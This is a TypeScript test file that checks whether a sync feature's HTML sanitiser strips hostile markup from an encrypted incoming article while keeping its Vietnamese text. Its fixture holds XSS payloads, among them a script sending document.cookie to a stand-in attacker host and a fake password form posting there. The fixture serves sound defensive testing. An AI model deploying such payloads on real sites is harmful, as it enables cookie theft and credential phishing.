// An article arriving by sync passes the backup import's sanitiser (utils/html/sanitize.ts, here on jsdom as the
// browsers run it on their DOM): a hostile file, validly encrypted under the library's key, is stored clean with
// every word of its paragraphs; without a sanitiser it is refused; a sanitiser that fails stores nothing.
import 'fake-indexeddb/auto';
import { describe, expect, it } from 'vitest';
import { createKeycheck, encryptFile } from '../../utils/sync/crypto';
import { articleLogicalName, articlePlainText } from '../../utils/sync/article-file';
import { receiveArticle } from '../../utils/sync/receive-article';
import { getArticle, openLibrary, saveArticle } from '../../utils/library';
import { listQuarantine } from '../../utils/library/quarantine';
import { sanitizeArticleHtml } from '../../utils/html/sanitize';
import { sanitizerWindow } from '../../utils/html/parse-html';
import { makeArticle } from '../library/fixtures/articles';

const HOSTILE_HTML =
  '<p onclick="alert(1)" onmouseover="alert(2)">Xã Gia Phú tổ chức họp dân về dự án đường liên thôn.</p>' +
  '<script>fetch("https://ke-gian.example/?" + document.cookie)</script>' +
  '<p>Xem <a href="javascript:alert(3)">biên bản cuộc họp</a> và <a href="https://giaphu.laocai.gov.vn/bien-ban">bản gốc</a>.</p>' +
  '<form action="https://ke-gian.example/login"><input name="mat-khau"><button>Gửi</button></form>' +
  '<svg><script>alert(4)</script><circle r="1"></circle></svg>' +
  '<img src="https://giaphu.laocai.gov.vn/anh.jpg" onerror="alert(5)" alt="Cuộc họp">' +
  '<p>Người dân đồng thuận hiến đất làm đường.</p>';

async function hostileFile() {
  const source = await openLibrary({ name: `sync-source-${Math.random()}` });
  const saved = await saveArticle(source, makeArticle({ images: [] }));
  const article = { ...(await getArticle(source, saved.id))!, html: HOSTILE_HTML };
  const { text, hash } = await articlePlainText(article);
  const { keys } = await createKeycheck('cây đa giếng nước sân đình', 1000);
  const logicalName = articleLogicalName(article.id, hash);
  return { id: article.id, keys, logicalName, sealed: await encryptFile(keys, logicalName, new TextEncoder().encode(text)) };
}

describe('an article arriving by sync', () => {
  it('is stored through the import sanitiser: no script, handler, javascript: link, form or SVG; every word kept', async () => {
    const file = await hostileFile();
    const db = await openLibrary({ name: `sync-arrive-${Math.random()}` });
    const window = await sanitizerWindow();
    const sanitise = async (html: string) => sanitizeArticleHtml(html, window);
    expect(await receiveArticle(db, file.keys, file.logicalName, file.sealed, sanitise)).toEqual({ outcome: 'added' });
    const html = (await getArticle(db, file.id))!.html;
    for (const banned of [/<script/i, /\son\w+=/i, /javascript:/i, /<form/i, /<input/i, /<button/i, /<svg/i, /<circle/i, /ke-gian/]) {
      expect(html).not.toMatch(banned);
    }
    for (const words of ['Xã Gia Phú tổ chức họp dân về dự án đường liên thôn.', 'biên bản cuộc họp', 'Người dân đồng thuận hiến đất làm đường.']) {
      expect(html).toContain(words);
    }
    expect(html).toContain('href="https://giaphu.laocai.gov.vn/bien-ban"');
    expect(html).toContain('src="https://giaphu.laocai.gov.vn/anh.jpg"');
    expect(await listQuarantine(db)).toEqual([]);
  });

  it('is refused to the quarantine when no sanitiser is given, and nothing is stored when the sanitiser fails', async () => {
    const file = await hostileFile();
    const db = await openLibrary({ name: `sync-refuse-${Math.random()}` });
    expect(await receiveArticle(db, file.keys, file.logicalName, file.sealed)).toMatchObject({ outcome: 'quarantined' });
    expect(await getArticle(db, file.id)).toBeUndefined();

    const other = await openLibrary({ name: `sync-fail-${Math.random()}` });
    const failing = () => Promise.reject(new Error('offscreen document closed'));
    await expect(receiveArticle(other, file.keys, file.logicalName, file.sealed, failing)).rejects.toThrow('offscreen document closed');
    expect(await getArticle(other, file.id)).toBeUndefined();
    expect(await listQuarantine(other)).toEqual([]);
  });
});
